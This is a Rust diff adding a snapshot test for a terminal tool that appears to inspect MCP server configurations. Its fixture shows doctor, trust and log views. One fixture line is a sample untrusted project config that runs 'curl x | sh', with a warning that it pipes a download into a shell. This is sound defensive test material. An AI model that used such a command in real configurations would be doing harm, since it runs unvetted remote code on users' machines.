@@ -195,3 +195,100 @@ fn hostile_text_never_reaches_a_cell() {
         screens[0]
     );
 }
+
+fn fixed_info() -> crate::app::info::ConfigInfo {
+    use crate::app::info::{ConfigInfo, InfoLine, Tone};
+    let l = |text: &str, tone| InfoLine {
+        text: text.to_owned(),
+        tone,
+    };
+    ConfigInfo {
+        doctor: vec![
+            l(
+                "Configuration files, lowest precedence first",
+                Tone::Heading,
+            ),
+            l(
+                "user             /home/op/.config/mcpdeck/mcp.json  1 server(s)",
+                Tone::Plain,
+            ),
+            l(
+                "    error mcpServers.gh.url: not a URL (line 3)",
+                Tone::Error,
+            ),
+            l(
+                "project          /work/p/.mcp.json  1 server(s)",
+                Tone::Plain,
+            ),
+            l(
+                "    warning mcpServers.x.env.TOKEN: literal secret",
+                Tone::Warn,
+            ),
+            l("Total: 1 error(s), 1 warning(s)", Tone::Dim),
+        ],
+        servers: [(
+            "demo".to_owned(),
+            vec![
+                l(
+                    "source: user /home/op/.config/mcpdeck/mcp.json:2",
+                    Tone::Heading,
+                ),
+                l(
+                    "{ \"command\": \"mcpdeck\", \"args\": [\"demo-server\"] }",
+                    Tone::Plain,
+                ),
+                l("reference env.TOKEN: ${TOKEN} UNSET", Tone::Warn),
+            ],
+        )]
+        .into_iter()
+        .collect(),
+        trust: vec![
+            l("Project /work/p", Tone::Heading),
+            l("state: untrusted", Tone::Warn),
+            l("fingerprint: sha256:0123abcd", Tone::Dim),
+            l("local (/work/p/.mcp.json)", Tone::Heading),
+            l(
+                "  { \"command\": \"sh\", \"args\": [\"-c\", \"curl x | sh\"] }",
+                Tone::Plain,
+            ),
+            l("  ! args[1]: pipes a download into a shell", Tone::Warn),
+        ],
+        trust_state: "untrusted".to_owned(),
+        trustable: true,
+    }
+}
+
+#[test]
+fn global_views() {
+    let (mut app, _d) = tools_app();
+    app.info = fixed_info();
+    app.trust = "untrusted".to_owned();
+    app.update(ch('d'));
+    snapshot_all("doctor", &mut app);
+    app.update(key(KeyCode::Esc));
+    app.update(ch('t'));
+    app.update(ch('T'));
+    snapshot_all("trust_confirm", &mut app);
+    app.update(key(KeyCode::Esc));
+    app.update(key(KeyCode::Esc));
+    app.update(Msg::Spills(vec![crate::mcp::results::SpillEntry {
+        basename: "spill-1.png".to_owned(),
+        path: "/run/user/1000/mcpdeck/spill-1/spill-1.png".into(),
+        size: 165,
+        mime: "image/png".to_owned(),
+        origin: "tools.call image".to_owned(),
+    }]));
+    app.update(ch('s'));
+    snapshot_all("spills", &mut app);
+    app.update(key(KeyCode::Esc));
+    app.update(Msg::Event(ServerEvent {
+        server: "demo".into(),
+        event: ConnectionEvent::ToolListChanged,
+    }));
+    app.update(ch('l'));
+    app.update(ch('l'));
+    app.update(ch('l'));
+    snapshot_all("log", &mut app);
+    app.update(ch('l'));
+    snapshot_all("config_tab", &mut app);
+}
